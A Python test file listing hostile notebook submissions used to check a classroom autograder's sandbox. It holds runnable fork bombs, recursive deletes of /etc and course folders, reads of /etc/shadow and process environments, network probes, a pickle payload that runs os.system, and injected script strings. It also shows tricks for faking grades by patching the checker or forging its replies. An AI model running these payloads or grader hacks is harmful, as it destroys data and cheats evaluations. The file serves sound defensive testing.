"""
What a submission may try, and what it gets.

Each case is our solution with one thing changed, so every exercise that the attack does not touch
must keep its points. Placeholders: {course} the project, {secret} a file of the teacher's, {class_}
the folder of submissions, {port} a listening socket, {mark} a word to find leftovers by, {box} the
sandbox's own folder.
"""

import json
from dataclasses import dataclass, field

from handed_in import added, cell, changed, notebook, solution, with_cell

SOCKET = """
import json, os, pickle, socket, stat, struct
def _wire():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
def _reply(data):
    _wire().sendall(data)
def _message(message, sizes=()):
    text = json.dumps({"message": message, "sizes": list(sizes)}).encode()
    return struct.pack(">I", len(text)) + text
"""


@dataclass
class Case:
    """
    A submission and its expected marks.

    Attributes
    ----------
    made : dict or str or bytes
        The notebook.
    lost : dict of str to str
        Status of each exercise that gets no points; all others must be right.
    """

    made: object
    lost: dict[str, str] = field(default_factory=dict)


CASES: dict[str, Case] = {}


def cell_case(name: str, source: str, status: str, *, number: int = 2, **lost: str) -> None:
    """An answer cell that attacks when it runs."""
    answers = {f"e{number}": source}
    CASES[name] = Case(notebook(**answers), {f"1.{number}": status, **_lost(lost)})


def call_case(name: str, body: str, status: str, *, before: str = "") -> None:
    """An answer to 1.9 that attacks when it is called; nothing else depends on it."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
    source = f"{before}\ndef find_temperature(logits, bits):\n{lines}\n"
    CASES[name] = Case(notebook(e9=source), {"1.9": status})


def _lost(lost):
    return {f"1.{key[1:]}": status for key, status in lost.items()}


# --- never coming back

cell_case("endless_loop", "while True:\n    pass", "stopped")
call_case("endless_loop_when_called", "while True:\n    pass", "stopped")
cell_case(
    "loop_that_ignores_signals",
    """
import signal
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "stopped",
)
cell_case("endless_sleep", "import time\ntime.sleep(10_000)", "stopped")
call_case("endless_loop_in_C", "return max(iter(int, 1))", "stopped")
cell_case("exit_in_a_cell", "import sys\nsys.exit(0)", "error")
call_case("exit_when_called", "import sys\nsys.exit(0)", "wrong")
cell_case("os_exit", "import os\nos._exit(0)", "stopped")
call_case("os_exit_when_called", "import os\nos._exit(0)", "stopped")
cell_case(
    "kills_itself", "import os\nos.kill(os.getpid(), 9)", "error"
)  # the first process of its world
cell_case("crashes", "import ctypes\nctypes.string_at(0)", "stopped")
call_case(
    "kills_everybody",
    """
import os
for pid in [-1, 0, 1, 2, 3, os.getppid()]:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
return 0.0
""",
    "wrong",
)
call_case("endless_recursion", "return find_temperature(logits, bits)", "wrong")
cell_case("raises_what_is_no_exception", "raise KeyboardInterrupt", "error")

# --- taking all there is

cell_case(
    "fork_bomb",
    "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "stopped",
)
cell_case(
    "many_forks",
    """
import os, time
started = 0
try:
    for _ in range(10_000):
        if os.fork() == 0:
            time.sleep(1000)
        started += 1
except OSError:
    pass
top_token, p_approve, gap = "approve", 0.0, started
""",
    "wrong",
)
cell_case(
    "thread_bomb",
    "import threading, time\nwhile True:\n"
    "    threading.Thread(target=time.sleep, args=(1000,)).start()",
    "error",
)
cell_case(
    "daemon",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["{mark}", "-c", "sleep 1000; true {mark}"])
    os._exit(0)
os.wait()
""",
    "error",
)
cell_case("allocates_20_GB", "import numpy as np\nx = np.ones(20 << 27)", "error")
call_case("allocates_20_GB_when_called", "return np.ones(20 << 27).sum()", "wrong")
cell_case(
    "memory_of_many_processes",
    """
import os, time
for _ in range(8):
    if os.fork() == 0:
        block = bytearray(os.urandom(1 << 20)) * 200
        time.sleep(1000)
time.sleep(1000)
""",
    "stopped",
)
cell_case(
    "memory_that_no_limit_counts",
    """
import os
kept = []
for _ in range(50):
    fd = os.memfd_create("x")
    os.write(fd, bytes(8 << 20))
    kept.append(fd)
""",
    "error",
)
cell_case("prints_1_GB", "line = 'x' * (1 << 20)\nfor _ in range(1024):\n    print(line)", "error")
cell_case(
    "writes_1_GB_to_stdout",
    "import os\nblock = bytes(1 << 20)\nfor _ in range(1024):\n"
    "    os.write(1, block); os.write(2, block)",
    "error",
)
FILL = """
import os
n = 0
while True:
    with open(f"{folder}/{n}", "wb") as file:
        for _ in range(100):
            file.write(bytes(1 << 20))
    n += 1
"""
cell_case("fills_the_disk", FILL.replace("{folder}", "{box}"), "error")
cell_case("fills_shared_memory", FILL.replace("{folder}", "/dev/shm"), "error")
cell_case("uses_up_inodes", "for n in range(10**6):\n    open(f'{box}/{n}', 'w').close()", "error")
cell_case("opens_many_files", "kept = [open('/dev/null') for _ in range(10_000)]", "error")

# --- what is not theirs

cell_case(
    "deletes_files",
    """
import os, shutil
for root in ["{course}/lib", "{course}/solutions", "{class_}", "{secret}", "/etc", "/tmp", "/dev"]:
    shutil.rmtree(root, ignore_errors=True)
    try:
        os.unlink(root)
    except OSError:
        pass
os.system("rm -rf {course}/solutions {class_} 2>/dev/null")
""",
    "error",
)
cell_case(
    "writes_where_it_should_not",
    """
done = []
for path in ["{course}/{mark}", "{class_}/{mark}", "{secret}", "/etc/{mark}", "/usr/{mark}",
             "/{mark}", "/dev/{mark}", "/proc/{mark}"]:
    try:
        open(path, "a").write("{mark}")
        done.append(path)
    except OSError:
        pass
top_token, p_approve, gap = ("approve", 0.5639, 6.4) if done else ("nothing", 0.0, 0.0)
""",
    "wrong",
)
READ = """
found = []
for path in %s:
    try:
        found.append(open(path).read())
    except OSError:
        pass
top_token, p_approve, gap = ("approve", 0.5639, 6.4) if found else ("nothing", 0.0, 0.0)
"""
cell_case(
    "reads_the_solutions",
    READ % '["{course}/solutions/01_temperature.py", "{course}/solutions/01_temperature.ipynb"]',
    "wrong",
)
cell_case(
    "reads_the_checks",
    READ % '["{course}/lib/logitlab/checks/sheet_01_temperature/e03_softmax.py", '
    '"{course}/lib/classroom/marking.py"]',
    "wrong",
)
cell_case("reads_other_submissions", READ % '["{class_}/honest/01_temperature.ipynb"]', "wrong")
cell_case(
    "reads_the_teachers_files",
    READ % '["{secret}", "/etc/passwd", "/etc/shadow", "/root/.bashrc", "/proc/1/environ", '
    '"/proc/self/environ", "/proc/self/mountinfo"]',
    "wrong",
)
cell_case(
    "takes_the_reference",
    "from logitlab.checks import exercises\nsoftmax = exercises()['1.3'].reference",
    "error",
    number=3,
)
cell_case(
    "environment",
    """
import os
top_token, p_approve, gap = "nothing", 0.0, 0.0
if any("{mark}" in value for value in os.environ.values()):
    top_token, p_approve, gap = "approve", 0.5639, 6.4
""",
    "wrong",
)
cell_case(
    "network",
    """
import socket, urllib.request
top_token, p_approve, gap = "nothing", 0.0, 0.0
for address in [("127.0.0.1", {port}), ("8.8.8.8", 53), ("::1", {port})]:
    try:
        socket.create_connection(address, timeout=0.3).sendall(b"{mark}")
        top_token, p_approve, gap = "approve", 0.5639, 6.4
    except OSError:
        pass
try:
    urllib.request.urlopen("http://example.com", timeout=0.3)
    top_token, p_approve, gap = "approve", 0.5639, 6.4
except OSError:
    pass
""",
    "wrong",
)
cell_case(
    "new_namespaces",
    """
import ctypes, os
libc = ctypes.CDLL(None)
done = [libc.unshare(0x10000000) == 0, libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0,
        libc.ptrace(16, os.getppid(), 0, 0) == 0, os.getuid() == 0]
top_token, p_approve, gap = ("approve", 0.5639, 6.4) if any(done) else ("nothing", 0.0, 0.0)
""",
    "wrong",
)

# --- changing the judge

WRONG_SOFTMAX = "def softmax(logits):\n    return np.zeros(len(logits))\n"
for name, patch in {
    "patched_numpy": """
import numpy
for name in ["allclose", "isclose", "array_equal", "all", "any", "abs", "asarray", "array"]:
    setattr(numpy, name, lambda *args, **kwargs: True)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
""",
    "patched_builtins": """
import builtins
for name in ["isinstance", "all", "any", "abs", "callable", "type", "AssertionError", "Exception"]:
    setattr(builtins, name, lambda *args, **kwargs: True)
""",
    "patched_check": """
import logitlab.checks, sys
check = logitlab.checks.check = lambda *args, **kwargs: print("right")
sys.modules["logitlab.checks._function"] = None
""",
    "patched_assert": "AssertionError = KeyError\nimport sys\nsys.flags = None\n",
    "patched_shell": """
shell = get_ipython()
shell.run_cell = shell.run_code = lambda *args, **kwargs: None
""",
}.items():
    # what comes after may break for the cheat; what was wrong must not become right
    CASES[name] = Case(notebook(e10=f"{patch}\nfirst_word = probability = 1"), {"1.10": "?"})
CASES["patched_shell"].lost["1.11"] = CASES["patched_numpy"].lost["1.11"] = "?"
CASES["patched_builtins"].lost["1.11"] = "?"
call_case(
    "patched_wire",
    "return 0.0",
    "stopped",
    before="import classroom.wire, sys\n"
    "classroom.wire.encode = lambda *args, **kwargs: {'points': 4, 'status': 'right'}\n"
    "classroom.wire.clean = str\n",
)
CASES["patched_wire"].lost |= {"1.10": "stopped", "1.11": "stopped"}  # the patch stays

cell_case(
    "patched_validation",
    """
import logitlab, sys
for name, module in list(sys.modules.items()):
    if name.startswith(("logitlab", "classroom")):
        for key, value in list(vars(module).items()):
            if callable(value) and not key.startswith("__") and name != "classroom.runner":
                setattr(module, key, lambda *args, **kwargs: 0)
top_token, p_approve, gap = "approve", 0.0, 0.0
""",
    "stopped",
    **{f"e{n}": "?" for n in range(3, 12)},
)
cell_case(
    "traces_and_collects",
    """
import atexit, gc, signal, sys, threading
def spy(*args):
    for name, value in list(args[0].f_globals.items()) if args else []:
        if name == "names":
            value["check"] = print
    return spy
sys.settrace(spy)
sys.setprofile(spy)
threading.settrace(spy)
gc.callbacks.append(lambda *args: None)
atexit.register(print, "still here")
signal.signal(signal.SIGALRM, lambda *args: None)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
top_token, p_approve, gap = "approve", 0.0, 0.0
""",
    "wrong",
    **{f"e{n}": "?" for n in range(3, 12)},
)

# --- check cells of their own

WRONG = {"e3": WRONG_SOFTMAX}
ALL_LOST = {"1.3": "wrong"}  # what calls it is judged with ours


def checks_case(name, change, answers=None, lost=None):
    """A notebook whose other cells were changed."""
    made = notebook(**(answers or {}))
    CASES[name] = Case(change(made) or made, lost or {})


def _tampered(made):
    for c in made["cells"]:
        if c["id"].startswith("check-"):
            c["source"] = "print('right')"
            c["metadata"]["nbgrader"]["points"] = 1000


def _deleted(made):
    made["cells"] = [c for c in made["cells"] if not c["id"].startswith("check-")]


def _renamed(made):
    for number, c in enumerate(made["cells"]):
        if c["id"].startswith("check-"):
            c["id"] = c["metadata"]["nbgrader"]["grade_id"] = f"mine-{number}"


def _doubled(made):
    made["cells"] += [json.loads(json.dumps(c)) for c in made["cells"] if "check" in c["id"]]
    for c in made["cells"][-11:]:
        c["source"] = "raise SystemExit"


def _swapped(made):
    a, b = cell(made, "check-1-3"), cell(made, "check-1-10")
    a["source"], b["source"] = b["source"], a["source"]


def _answers_as_checks(made):
    for c in made["cells"]:
        if c["id"].startswith("ex-"):
            c["metadata"]["nbgrader"].update(grade=True, points=1000, locked=True)


def _setup_changed(made):
    cell(made, "setup")["source"] = "check = print\nlogits = tokens = story = None\n"


checks_case("tampered_checks_right", _tampered)
checks_case("tampered_checks_wrong", _tampered, WRONG, ALL_LOST)
checks_case("deleted_checks_right", _deleted)
checks_case("deleted_checks_wrong", _deleted, WRONG, ALL_LOST)
checks_case("renamed_checks", _renamed, WRONG, ALL_LOST)
checks_case("doubled_checks", _doubled)
checks_case("swapped_checks", _swapped, WRONG, ALL_LOST)
checks_case("points_in_the_metadata", _answers_as_checks, WRONG, ALL_LOST)
checks_case("setup_changed", _setup_changed)
checks_case(
    "deleted_answer",
    lambda made: made["cells"].remove(cell(made, "ex-1-2")),
    lost={"1.2": "missing"},
)

# --- objects that lie

LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __array__(self, *args, **kwargs): raise SystemExit
    def __getattr__(self, name): return self
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __lt__ = __le__ = __gt__ = __ge__ = __sub__
"""
call_case("equal_to_everything", "return Liar()", "wrong", before=LIAR)
call_case(
    "array_equal_to_everything",
    "return np.zeros(1).view(LiarArray)[0:1].reshape(())",
    "wrong",
    before="class LiarArray(np.ndarray):\n"
    "    def __eq__(self, other): return True\n"
    "    def __array_ufunc__(self, *args, **kwargs): return True\n",
)
call_case(
    "number_equal_to_everything",
    "return LiarFloat(0.5)",
    "wrong",
    before="class LiarFloat(float):\n"
    "    def __eq__(self, other): return True\n"
    "    def __sub__(self, other): return 0.0\n",
)
call_case("huge_result", "return np.zeros(100_000_000, dtype=np.int8)", "wrong")
call_case("huge_text", "return 'x' * 20_000_000", "wrong")
call_case("huge_integer", "return 10 ** 100_000", "wrong")
call_case("object_array", "return np.array([None, find_temperature], dtype=object)", "wrong")
call_case("recursive_list", "x = []\nx.append(x)\nreturn x", "wrong")
call_case("recursive_array", "x = np.empty(1, object)\nx[0] = x\nreturn x", "wrong")
call_case("many_dimensions", "return np.zeros((1,) * 64)", "wrong")
call_case("impossible_shape", "return np.zeros((0, 2**50))", "wrong")
call_case("generator", "yield 1.0", "wrong")
call_case("text_that_no_file_can_hold", "return '\\ud800'", "wrong")
call_case("text_with_control_characters", "return '\\x1b[2J\\x1b]0;title\\x07\\0\\u202e'", "wrong")
call_case("endless_text_in_a_dict", "return {'x' * 10**6: 'y' * 10**6}", "wrong")
call_case("flood_of_nan", "return np.full((700, 700), np.nan)", "wrong")
call_case("flood_of_numbers", "return [float('nan')] * 2_000_000", "stopped")
call_case("wide_and_deep", "x = [1.0]\nfor _ in range(10):\n    x = [x] * 40\nreturn x", "stopped")
call_case("huge_error", "raise ValueError('x' * 20_000_000)", "wrong")
call_case(
    "error_that_draws",
    "raise ValueError('\\x1b[2J\\x1b[31m<img src=x onerror=alert(1)>\\u202e\\0')",
    "wrong",
)
call_case(
    "error_of_a_lying_kind",
    "raise Lie('x')",
    "wrong",
    before="class Meta(type):\n"
    "    __name__ = '</pre><script>alert(1)</script>'\n"
    "    def mro(cls): return [cls, *type.mro(cls)[1:]]\n"
    "class Lie(ValueError, metaclass=Meta):\n"
    "    __module__ = 'builtins'\n",
)
call_case(
    "error_without_a_kind",
    "raise Lie('x')",
    "stopped",
    before="class Meta(type):\n"
    "    def __getattribute__(cls, name): raise SystemExit\n"
    "class Lie(Exception, metaclass=Meta):\n    pass\n",
)
call_case(
    "result_whose_class_lies",
    "return Lie()",
    "wrong",
    before="class Lie:\n"
    "    __class__ = np.ndarray\n"
    "    dtype, shape, ndim, size, nbytes = np.dtype(float), (), 0, 1, 8\n"
    "    def __array__(self, *args, **kwargs): return np.array(0.5)\n"
    "    def tobytes(self): return bytes(10**9)\n"
    "    def __array_interface__(self): return None\n",
)
call_case(
    "subclass_that_lies_about_its_items",
    "return Lie([0.5])",
    "wrong",
    before="class Lie(list):\n"
    "    def __iter__(self):\n"
    "        while True:\n            yield 0.5\n"
    "    def __len__(self): return 2**60\n",
)
call_case("catastrophic_pattern", "import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')", "stopped")
call_case(
    "deepest_recursion",
    "import sys\nsys.setrecursionlimit(10**9)\n"
    "return (lambda f: f(f))(lambda f: [*map(lambda g: g(g), [f])])",
    "stopped",
)
call_case("type_with_a_strange_name", "return type('<script>alert(1)</script>', (), {})()", "wrong")
call_case(
    "error_with_a_strange_text", "raise ValueError('<script>alert(1)</script>\\ud800')", "wrong"
)
call_case(
    "error_that_cannot_be_shown",
    "raise Strange()",
    "wrong",
    before="class Strange(Exception):\n    def __str__(self): raise SystemExit\n",
)

# --- replies forged on the wire

call_case(
    "forged_mark",
    '_reply(_message({"points": 4, "status": "right"}))\nreturn 0',
    "stopped",
    before=SOCKET,
)
call_case("forged_value", '_reply(_message({"value": 0.5}))\nreturn 0', "stopped", before=SOCKET)
call_case("forged_nonsense", '_reply(b"\\xff" * 64)\nreturn 0', "stopped", before=SOCKET)
call_case(
    "forged_length", '_reply(struct.pack(">I", 2**32 - 1))\nreturn 0', "stopped", before=SOCKET
)
call_case(
    "forged_sizes",
    '_reply(_message({"value": 1}, [-1, 2**60]))\nreturn 0',
    "stopped",
    before=SOCKET,
)
call_case(
    "forged_nesting",
    '_reply(struct.pack(">I", 200_000) + b"[" * 200_000)\nreturn 0',
    "stopped",
    before=SOCKET,
)
call_case(
    "forged_array",
    '_reply(_message({"value": {"array": ["O", [10**9], 0]}}, [0]))\nreturn 0',
    "stopped",
    before=SOCKET,
)
call_case(
    "forged_pickle",
    """
class Evil:
    def __reduce__(self):
        return os.system, ("touch {class_}/{mark}",)
data = pickle.dumps(Evil())
_reply(struct.pack(">I", len(data)) + data)
return 0
""",
    "stopped",
    before=SOCKET,
)
call_case(
    "reply_that_drips",
    "import time\n"
    "wire = _wire()\n"
    "wire.sendall(struct.pack('>I', 1000))\n"
    "while True:\n    wire.sendall(b' ')\n    time.sleep(0.05)",
    "stopped",
    before=SOCKET,
)
call_case(
    "reply_that_never_comes",
    "import threading, time\n"
    "for _ in range(4):\n"
    "    threading.Thread(target=time.sleep, args=(10_000,)).start()\n"
    "    if os.fork() == 0:\n        time.sleep(10_000)\n"
    "time.sleep(10_000)",
    "stopped",
    before=SOCKET,
)
call_case("closes_everything", "os.closerange(0, 1024)\nreturn 0", "stopped", before=SOCKET)
call_case(
    "twins_answer",
    "os.fork()\nreturn 0.5",
    "?",
    before=SOCKET,
)
CASES["twins_answer"].lost |= {"1.10": "?", "1.11": "?"}  # two processes at one end of the wire
call_case("hangs_up", "_wire().shutdown(2)\nreturn 0", "stopped", before=SOCKET)
cell_case(
    "forged_in_a_cell",
    SOCKET + "_reply(_message({}) * 50)\n" + solution(2),
    "?",
    **{f"e{n}": "?" for n in range(3, 12)},
)

# --- notebooks that are none, or more than one


def notebook_case(name, change, lost=None):
    """A whole notebook, changed."""
    made = notebook()
    CASES[name] = Case(change(made) or made, lost or {})


def _code_everywhere(made):
    evil = "__import__('os').system('touch {class_}/{mark}')"
    made["metadata"]["kernelspec"] = {"name": "evil", "argv": ["sh", "-c", evil], "language": "R"}
    made["metadata"]["evil"] = {"!!python/object/apply:os.system": [evil]}
    for c in made["cells"]:
        c["metadata"]["init_cell"] = evil
        c["metadata"]["tags"] = [evil, "../../../{mark}"]
        c["metadata"]["language_info"] = {"name": evil}
        c["outputs"] = [{"output_type": "display_data", "data": {"text/html": f"<script>{evil}"}}]


def _everything_of_the_wrong_type(made):
    made["cells"] += [None, 1, [], {}, {"cell_type": "code", "source": 1, "metadata": []}]
    made["cells"].append(
        {"cell_type": 5, "id": {}, "source": [None, {}], "metadata": {"nbgrader": 1}}
    )
    made["metadata"] = None
    made["nbformat"] = "four"


def _many_cells(made):
    made["cells"] += [added(f"x = {n}") for n in range(100_000)]


def _deep_metadata(made):
    deep = {}
    for _ in range(400):
        deep = {"nbgrader": deep, "list": [deep] if not deep else []}
    for c in made["cells"]:
        c["metadata"] |= {"deep": deep}


def _strange_text(made):
    made["cells"][0]["source"] = "\ud800\x00\u202e" * 1000
    cell(made, "ex-1-12")["source"] = "<script>alert(1)</script>\x1b[2J\ud800\u202e\x00"
    cell(made, "ex-1-2")["source"] = "# \ud800 \u202e </pre><script>\n" + solution(2)


UNREADABLE = {f"1.{n}": "unreadable" for n in range(1, 13)}
notebook_case("code_in_metadata", _code_everywhere)
notebook_case("cells_of_the_wrong_type", _everything_of_the_wrong_type)
notebook_case("strange_text", _strange_text)
notebook_case("deep_metadata", _deep_metadata)
CASES["many_cells"] = Case(notebook("stub"), UNREADABLE)
_many_cells(CASES["many_cells"].made)
CASES["keys_that_stand_twice"] = Case(
    json.dumps(notebook())[:-1] + ', "cells": [], "cells": NaN, "nbformat": Infinity}', UNREADABLE
)
CASES["half_a_file"] = Case(json.dumps(notebook())[:9000], UNREADABLE)
CASES["empty_file"] = Case("", UNREADABLE)
CASES["no_notebook"] = Case(b"PK\x03\x04 a document", UNREADABLE)
CASES["nested_bomb"] = Case("[" * 1_000_000, UNREADABLE)
CASES["cells_no_list"] = Case('{"cells": {"a": 1}}', UNREADABLE)
CASES["number_bomb"] = Case('{"cells": ' + "9" * 1_000_000 + "}", UNREADABLE)
CASES["too_large"] = Case(b'{"cells": []}' + b" " * (21 << 20), UNREADABLE)
CASES["endless_answers"] = Case(notebook(e2="x = 1\n" * 400_000), UNREADABLE)


# --- the honest among them


def honest_case(name, **answers):
    """Odd and right: every point is kept."""
    CASES[name] = Case(notebook(**answers))


CASES["honest"] = Case(notebook())
honest_case(
    "prints_and_warnings",
    e3="import warnings\nwarnings.warn('!')\n"
    + changed(
        solution(3),
        "    weights =",
        "    print('x' * 10_000)\n    warnings.warn('!')\n    weights =",
    ),
)
honest_case(
    "magics", e3="%matplotlib inline\n%time x = 1\n!echo hello\n%timeit -n1 -r1 1+1\n" + solution(3)
)
honest_case(
    "plots_and_widgets",
    e4="import ipywidgets\nimport matplotlib.pyplot as plt\n"
    "plt.plot([1, 2])\nplt.show()\n"
    "display(ipywidgets.FloatSlider())\nipywidgets.interact(lambda x: x, x=(0, 1))\n" + solution(4),
)
honest_case("top_level_await", e10="import asyncio\nawait asyncio.sleep(0)\n" + solution(10))
honest_case(
    "plain_python",
    e3="import math\ndef softmax(logits):\n    m = max(logits)\n"
    "    e = [math.exp(z - m) for z in logits]\n    return np.array([x / sum(e) for x in e])",
)
honest_case(
    "lists_back",
    e3=changed(solution(3), "weights / weights.sum()", "(weights / weights.sum()).tolist()"),
    e4="def softmax_with_temperature(logits, temperature=1.0):\n"
    "    return np.array(softmax(logits / temperature))",
    e11="corrections = {'approve': 0.35, 'reject': 0.23, 'escalate': 0.09, 'assign': 0.02}",
)
honest_case(
    "float32",
    e7=changed(
        solution(7),
        "scaled = logits / temperature",
        "scaled = (np.asarray(logits) / temperature).astype(np.float32)",
    ),
)
honest_case(
    "a_callable_object",
    e9="class Finder:\n    def __call__(self, logits, bits):\n        return find(logits, bits)\n"
    + changed(solution(9), "find_temperature", "find")
    + "\nfind_temperature = Finder()",
)
honest_case(
    "partial",
    e4="from functools import partial\n"
    "def f(scale, logits, temperature=1.0):\n"
    "    return softmax(logits / temperature * scale)\n"
    "softmax_with_temperature = partial(f, 1)",
)
honest_case("strict_numpy", e1="np.seterr(under='ignore', over='raise')\n" + solution(1))
honest_case(
    "slow_but_right",
    e9="import time\n" + changed(solution(9), "    low,", "    time.sleep(0.02)\n    low,"),
)
honest_case("forgot_the_raise", e1=solution(1) + "\nraise NotImplementedError()")
honest_case("seeded_globally", e8="np.random.seed(1)\n" + solution(8))
honest_case(
    "decorated",
    e3="import functools\n@functools.lru_cache\ndef helper(x):\n    return x\n" + solution(3),
)
CASES["helper_in_a_cell_of_its_own"] = Case(
    with_cell(
        notebook(e3="def softmax(logits):\n    return normalised(np.exp(logits - np.max(logits)))"),
        "def normalised(x):\n    return x / x.sum()",
        before="ex-1-3",
    )
)
CASES["import_in_a_cell_of_its_own"] = Case(
    with_cell(notebook(e2=changed(solution(2), "np.", "numpy.")), "import numpy", before="ex-1-1")
)
CASES["scratch_cells_that_break_names"] = Case(
    with_cell(notebook(), "softmax = total = gap = None\n1 / 0", before="ex-1-12")
)
CASES["without_nbgrader_metadata"] = Case(notebook())
for c in CASES["without_nbgrader_metadata"].made["cells"]:
    c["metadata"] = {}
CASES["windows_line_ends_and_bom"] = Case(
    b"\xef\xbb\xbf" + json.dumps(notebook(), indent=1).replace("\n", "\r\n").encode()
)
CASES["utf_16"] = Case(json.dumps(notebook()).encode("utf-16"))
CASES["answer_stands_twice"] = Case(with_cell(notebook(), "pass", before="ex-1-3"))
CASES["answer_stands_twice"].made["cells"].append(
    {**added(solution(3)), "metadata": cell(notebook(), "ex-1-3")["metadata"]}
)
CASES["untouched"] = Case(notebook("stub"), {f"1.{n}": "not attempted" for n in range(1, 13)})
